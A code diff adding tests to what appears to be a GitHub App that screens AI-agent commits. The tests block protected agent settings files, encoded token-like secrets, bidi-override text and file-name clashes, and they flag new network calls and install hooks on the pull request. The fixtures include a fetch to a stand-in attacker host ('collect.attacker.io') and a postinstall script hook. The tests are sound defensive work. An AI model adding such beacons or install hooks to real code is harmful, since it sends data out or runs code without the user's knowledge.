@@ -189,6 +189,59 @@ test("a file that held a test's key before may be changed; no other key may come
   });
 });
 
+/** A runner tells of what no recorder would have taken. */
+describe("what a runner tells of is refused by the App itself, and a person is told why", () => {
+  test.each<[what: string, files: Files, reason: RegExp]>([
+    [
+      "orders for an agent",
+      { "sub/.claude/settings.json": "{}" },
+      /did not commit `sub\/\.claude\/settings\.json`: it is protected: it tells an AI agent what to do/,
+    ],
+    ["a short name of git's", { "gi7eba~1/config": "x" }, /the short form of another/],
+    ["a file and a file below it", { a: "1", "a/b": "2" }, /`a` would be a file and a directory/],
+    ["a file in place of a directory", { src: "1" }, /`src` would be a file and a directory/],
+    ["a file below a file", { "README.md/x": "1" }, /`README\.md` would be a file and a directory/],
+    ["a twin in other letters", { "readme.MD": "1" }, /`readme\.MD` and `README\.md` are one name/],
+    ["a secret in base64", { "a.txt": btoa(`ghp_${"a1".repeat(18)}`) }, /what looks like a GitHub token/],
+    ["text that turns its direction", { "a.ts": "a\u202eb" }, /line 1 holds what nobody sees/],
+  ])("%s", async (_, files, reason) => {
+    const queued = await kit.queue();
+    await play(queued, { play: [wrote(...Object.keys(files)), APPROVED], contents: files });
+    await publish(queued);
+    expect(await taskOf(queued)).toMatchObject({
+      status: "blocked",
+      status_reason: expect.stringMatching(reason),
+    });
+    expect((await taskOf(queued)).head_sha).toBeNull();
+  });
+});
+
+test("what the App sees in a patch stands on the pull request, and what was there before does not", async () => {
+  const queued = await kit.queue();
+  const contents = {
+    "src/send.ts": 'first();\nfetch("https://collect.attacker.io/x");\n',
+    "package.json": '{ "scripts": { "postinstall": "node x.js" } }\n',
+    "src/plain.ts": "export const a = 1;\n",
+  };
+  await play(queued, { play: [wrote(...Object.keys(contents)), APPROVED], contents });
+  await publish(queued);
+  const looked = async () =>
+    /### What to look at\n\n([\s\S]*?)\n\n/.exec((await pullOf(queued)).body ?? "")?.[1];
+  expect(await looked()).toBe(
+    [
+      "- `package.json:1`: `postinstall` runs by itself when packages are installed or packed",
+      "- `src/send.ts:2`: a new address on the network: collect.attacker.io",
+    ].join("\n"),
+  );
+  await say(queued, "/kin rerun");
+  const later = { "src/send.ts": "first();\n" };
+  await play(queued, { play: [wrote("src/send.ts"), APPROVED], contents: later });
+  await publish(queued);
+  expect(await looked()).toBe(
+    "- `package.json:1`: `postinstall` runs by itself when packages are installed or packed",
+  );
+});
+
 describe("with `merge: auto`", () => {
   beforeAll(async () => {
     const file = { ...hello, path: ".github/kin.yml" };
